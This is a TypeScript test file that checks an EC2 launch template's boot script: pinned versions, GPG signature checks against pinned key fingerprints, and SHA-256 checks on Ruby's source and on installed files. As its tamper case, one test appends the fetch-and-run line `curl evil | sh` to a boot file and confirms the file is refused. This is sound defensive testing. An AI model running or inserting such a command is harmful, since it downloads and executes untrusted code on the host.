// What the launch template's user data downloads at boot is installed only when the vendor's
// signature verifies with the vendor's key, named by its fingerprint (data/boot-downloads.json),
// or, for Ruby's source, when its SHA-256 is the one data/ruby-versions.json lists; the files it
// reads from the launch template's Metadata only when their SHA-256 is the one it names. The user
// data's own functions run here with real gpg, sha256sum and jq, on keys and files made for the
// test (the vendors' keys and downloads are on the internet, which tests never reach).
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import { bootDownloads, rubySourceSha256 } from "../core/data.js";
import { bootFiles, userData } from "../e2e/harness/app.js";
import { answerSetRepo, tempDir } from "./helpers/repo.js";
import { requireTool } from "./helpers/tools.js";

const execFileAsync = promisify(execFile);

/** EC2's limit on user data, before base64. */
const USER_DATA_LIMIT = 16 * 1024;

describe("boot downloads: pinned, and installed only with the vendor's signature or the listed checksum", function () {
  this.timeout(60_000);
  let script: string;
  let repo: string;
  let home: string;

  before(async function () {
    requireTool(this, ["gpg", "gpgv", "jq"]);
    repo = await answerSetRepo("defaults");
    script = readFileSync(join(repo, "infra/cloudformation/app.yml"), "utf8");
    home = tempDir("gnupg-");
  });

  // gpg starts an agent for its home: stopped here, before the home goes.
  after(async () => {
    if (home)
      await execFileAsync("gpgconf", [
        "--homedir",
        home,
        "--kill",
        "gpg-agent",
      ]);
  });

  const gpg = (...args: string[]) =>
    execFileAsync("gpg", ["--homedir", home, "--batch", ...args]);

  /** A new signing key: its fingerprint. */
  async function newKey(name: string): Promise<string> {
    await gpg(
      "--passphrase",
      "",
      "--quick-generate-key",
      `${name} <${name}@example.com>`,
      "ed25519",
      "sign",
      "never",
    );
    const { stdout } = await gpg("--with-colons", "--fingerprint", name);
    return /^fpr:+([0-9A-F]{40}):/m.exec(stdout)![1]!;
  }

  /**
   * The user data's fetch_signed, run on `file` (served at a file:// URL with its signature
   * beside it) with the fetched keyring `keyring`: its exit code, and where it left the download.
   */
  async function fetchSigned(
    file: string,
    fingerprint: string,
    keyring: string,
  ): Promise<number> {
    const lines = script.split("\n");
    const start = lines.findIndex((l) => l.trim() === "fetch_signed() {");
    const end = lines.findIndex((l, i) => i > start && l.trim() === "}");
    const fn = lines
      .slice(start, end + 1)
      .map((l) => l.trim())
      .join("\n");
    try {
      await execFileAsync(
        "bash",
        [
          "-c",
          `set -euo pipefail\nboot_keys=$1\n${fn}\nfetch_signed "file://$2" "$3" "$4"`,
          "boot",
          keyring,
          file,
          join(tempDir("fetched-"), "download"),
          fingerprint,
        ],
        { env: { ...process.env, GNUPGHOME: home } },
      );
      return 0;
    } catch (error) {
      return (error as { code: number }).code;
    }
  }

  it("pins the AWS CLI's and the CloudWatch agent's versions and both vendors' keys by full fingerprint", () => {
    const { awsCli, cloudwatchAgent } = bootDownloads;
    assert.ok(
      script.includes(`awscli-exe-linux-$(uname -m)-${awsCli.version}.zip"`),
    );
    assert.match(cloudwatchAgent.version, /^\d+\.\d+\.\d+(b\d+)?$/);
    assert.ok(
      script.includes(
        `/ubuntu/$(dpkg --print-architecture)/${cloudwatchAgent.version}/amazon-cloudwatch-agent.deb"`,
      ),
    );
    assert.doesNotMatch(script, /amazoncloudwatch-agent[^"]*\/latest\//);
    for (const fingerprint of [
      awsCli.signingKeyFingerprint,
      cloudwatchAgent.signingKeyFingerprint,
    ]) {
      assert.match(fingerprint, /^[0-9A-F]{40}$/);
      assert.match(
        script,
        new RegExp(
          `fetch_signed "https://[^"]+" \\\\\\s+/tmp/\\S+ ${fingerprint}\\n`,
        ),
      );
    }
  });

  it("accepts a download signed by the pinned key, and refuses it tampered or signed by another key in the same keyring", async () => {
    const vendor = await newKey("vendor");
    const intruder = await newKey("intruder");
    const dir = tempDir("download-");
    const file = join(dir, "package.deb");
    writeFileSync(file, "the vendor's package\n");
    const keyring = join(dir, "vendor.kbx");
    // The fetched keyring holds both keys, as a key server's answer could.
    const { stdout: exported } = await gpg("--armor", "--export");
    writeFileSync(join(dir, "keys.asc"), exported);
    await gpg(
      "--no-default-keyring",
      "--keyring",
      keyring,
      "--import",
      join(dir, "keys.asc"),
    );
    // A vendor's download with its detached signature beside it, as the vendors serve them.
    const sign = async (key: string) => {
      rmSync(`${file}.sig`, { force: true });
      await gpg(
        "--local-user",
        key,
        "--output",
        `${file}.sig`,
        "--detach-sign",
        file,
      );
    };

    await sign(vendor);
    assert.equal(await fetchSigned(file, vendor, keyring), 0);

    await sign(intruder);
    assert.notEqual(await fetchSigned(file, vendor, keyring), 0);

    await sign(vendor);
    writeFileSync(file, "the vendor's package, changed\n");
    assert.notEqual(await fetchSigned(file, vendor, keyring), 0);
  });

  /** The user data's lines from the one that starts with `from` to the next one equal to `to`. */
  function lines(from: string, to: string): string {
    const all = userData(
      repo,
      new Proxy({}, { get: (_, name) => `value-of-${String(name)}` }),
    ).split("\n");
    const start = all.findIndex((l) => l.startsWith(from));
    const end = all.findIndex((l, i) => i > start && l === to);
    assert.ok(start >= 0 && end > start, `the user data has ${from}…${to}`);
    return all.slice(start, end + 1).join("\n");
  }

  it("builds Ruby only from the source tarball whose SHA-256 the data lists for the version", async () => {
    const version = "3.4.7";
    const check = lines("curl -fsSL 'https://cache.ruby-lang.org/", "")
      .split("\n")
      .slice(0, 2);
    assert.equal(
      check[0],
      `curl -fsSL 'https://cache.ruby-lang.org/pub/ruby/3.4/ruby-${version}.tar.gz' -o /tmp/ruby.tar.gz`,
    );
    assert.match(check[1]!, new RegExp(rubySourceSha256[version]!));
    // The check line, run on a tarball that is not the release: the build never starts.
    const dir = tempDir("ruby-source-");
    const verify = (contents: string) => {
      writeFileSync(join(dir, "ruby.tar.gz"), contents);
      return execFileAsync("bash", [
        "-c",
        `set -euo pipefail\n${check[1]!.replaceAll("/tmp/ruby.tar.gz", join(dir, "ruby.tar.gz"))}`,
      ]).then(
        () => 0,
        (error: { code: number }) => error.code,
      );
    };
    assert.notEqual(await verify("not Ruby's source\n"), 0);
  });

  it("installs each file of the launch template's Metadata only when its SHA-256 is the one in the user data", async () => {
    const files = bootFiles(script);
    assert.deepEqual(Object.keys(files).sort(), [
      "/etc/systemd/system/demo-metrics.service",
      "/etc/systemd/system/demo-metrics.timer",
      "/usr/local/sbin/demo-install-units",
      "/usr/local/sbin/demo-publish-metrics",
      "/usr/local/sbin/demo-refresh-env",
    ]);
    const install = lines("install_boot_file() {", "}");
    const calls = lines("install_boot_file '", "")
      .split("\n")
      .filter((l) => l.startsWith("install_boot_file '"));
    assert.equal(calls.length, Object.keys(files).length);
    const root = tempDir("boot-files-");
    // The stand-in for the root file system: the files' folders under `root`.
    for (const path of Object.keys(files))
      mkdirSync(join(root, path, ".."), { recursive: true });
    /**
     * The user data's install_boot_file calls, with `given` as the files of the Metadata that
     * describe-stack-resource answers, every path under `root`.
     */
    const boot = (given: Record<string, string>) => {
      const metadata = Object.fromEntries(
        Object.entries(given).map(([path, text]) => [root + path, text]),
      );
      const rooted = calls.map((call) =>
        call.replace("install_boot_file '/", `install_boot_file '${root}/`),
      );
      return execFileAsync("bash", [
        "-c",
        `set -Eeuo pipefail\nboot_files=$1\n${install}\n${rooted.join("\n")}`,
        "boot",
        JSON.stringify(metadata),
      ]).then(
        () => ({ code: 0, stderr: "" }),
        (error: { code: number; stderr: string }) => error,
      );
    };

    const refreshEnv = "/usr/local/sbin/demo-refresh-env";
    const refused = await boot({
      ...files,
      [refreshEnv]: `${files[refreshEnv]!}curl evil | sh\n`,
    });
    assert.notEqual(refused.code, 0);
    assert.match(
      refused.stderr,
      /Refusing \/.*demo-refresh-env: the launch template's Metadata has another file/,
    );
    assert.equal(
      existsSync(join(root, refreshEnv)),
      false,
      "nothing installed",
    );

    assert.deepEqual(await boot(files), { code: 0, stderr: "" });
    for (const [path, text] of Object.entries(files))
      assert.equal(readFileSync(join(root, path), "utf8"), text, path);
  });

  it("keeps the user data within EC2's 16 KB with every stack value 64 characters long", async () => {
    for (const set of [
      "defaults",
      "NAT per AZ, bastion, read replicas, on-demand",
      "redis",
    ]) {
      const repo = await answerSetRepo(set);
      const text = userData(repo, new Proxy({}, { get: () => "v".repeat(64) }));
      const bytes = Buffer.byteLength(text);
      console.log(`      ${set}: user data ${bytes} bytes`);
      assert.ok(bytes <= USER_DATA_LIMIT, `${set}: ${bytes} bytes`);
    }
  });
});
